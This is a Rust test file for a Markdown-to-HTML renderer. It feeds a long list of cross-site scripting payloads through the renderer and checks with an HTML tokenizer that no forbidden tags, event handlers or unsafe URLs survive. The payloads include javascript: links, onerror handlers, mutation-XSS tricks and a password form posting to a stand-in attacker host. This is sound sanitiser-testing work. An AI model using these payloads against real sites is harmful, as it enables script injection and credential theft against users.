//! What an attacker would write into a document, and a check by a real HTML tokenizer that nothing of it is left.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, Token, TokenSink, TokenSinkResult, Tokenizer};

use super::page;

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token {
            self.0.borrow_mut().push(tag);
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let tokenizer = Tokenizer::new(Tags::default(), Default::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

const FORBIDDEN: [&str; 17] = [
    "script", "style", "iframe", "object", "embed", "form", "button", "link", "meta", "base", "svg", "math",
    "template", "textarea", "noscript", "video", "frame",
];

/// Attributes that are let through, on whatever element.
const KNOWN: [&str; 32] = [
    "align",
    "alt",
    "aria-label",
    "charoff",
    "char",
    "checked",
    "cite",
    "class",
    "colspan",
    "datetime",
    "dir",
    "disabled",
    "headers",
    "height",
    "href",
    "hreflang",
    "id",
    "lang",
    "loading",
    "open",
    "rel",
    "rowspan",
    "scope",
    "size",
    "span",
    "src",
    "start",
    "summary",
    "tabindex",
    "title",
    "type",
    "width",
];

#[track_caller]
pub(super) fn assert_harmless(markdown: &str, html: &str) {
    for tag in tags(html) {
        let name = tag.name.as_ref();
        assert!(!FORBIDDEN.contains(&name), "<{name}> from {markdown:?}: {html}");
        for attribute in &tag.attrs {
            let (key, value) = (attribute.name.local.as_ref(), attribute.value.as_ref());
            assert!(KNOWN.contains(&key), "{key}={value} from {markdown:?}: {html}");
            if matches!(key, "href" | "src" | "cite") {
                let safe = ["https://", "http://", "mailto:", "tel:", "/docs/shop/", "#"];
                assert!(safe.iter().any(|start| value.starts_with(start)), "{key}={value} from {markdown:?}");
            }
            if key == "id" {
                assert!(value.starts_with("doc-"), "id={value} from {markdown:?}");
            }
            if key == "tabindex" {
                assert_eq!(value, "0", "from {markdown:?}: nothing may change the order of the focus");
            }
            if name == "input" && key == "type" {
                assert_eq!(value, "checkbox", "from {markdown:?}");
            }
        }
        if name == "a" && tag.attrs.iter().any(|it| &*it.name.local == "href") {
            let rel = tag.attrs.iter().find(|it| &*it.name.local == "rel");
            assert!(rel.is_some_and(|rel| &*rel.value == "noopener nofollow"), "from {markdown:?}: {html}");
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" /",
    "<img/src=`x`/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p class=\"banner primary-button\" id=\"main\">x</p>",
    "<form action=https://evil.example><input type=password name=p><button>Go</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\" \tjava\nscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"x\" rel=\"opener\" target=\"_top\" ping=\"https://evil.example\">x</a>",
    "<a href=https://evil.example target=_blank rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\" onerror=\"alert(1)](x.png)",
    "[x](gone.md\"onmouseover=alert(1))",
    "[x](https://a.example/\"onmouseover=\"alert(1) \"t\\\" onclick=alert(1)\")",
    "[x](../../../../logout)",
    "[x](/logout)",
    "<img srcset=\"https://evil.example/x 1x\" src=\"//evil.example/x\">",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<x onclick=alert(1)>x</x>",
    "<b id=\"location\" name=\"document\">x</b>",
    "# <img src=x onerror=alert(1)>",
    "# x {#\"onclick=alert(1) .banner onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` x\" onclick=\"alert(1)\nx\n```",
    "```mermaid\n</code></pre></figure><script>alert(1)</script>\n```",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "!!! \"onclick=alert(1)\n    x",
    "=== \"<img src=x onerror=alert(1)>\"\n    x",
    "??? danger\"</summary><script>alert(1)</script>\"\n    x",
    "    !!! note\n        <script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\nx",
    "|<script>|\n|-|\n|<td onclick=alert(1)>|",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\"><td background=javascript:alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p lang=\"\"><select><style></select><img src=x onerror=alert(1)></style>",
];

#[test]
fn hostile_documents_become_harmless() {
    assert!(HOSTILE.len() >= 30);
    for markdown in HOSTILE {
        assert_harmless(markdown, &page(markdown).html);
    }
}

#[test]
fn a_hostile_title_is_text_and_not_html() {
    let page = page("---\ntitle: <script>x</script>\n---\n");
    assert_eq!(page.title.as_deref(), Some("<script>x</script>"), "the caller escapes it, as any text");
}
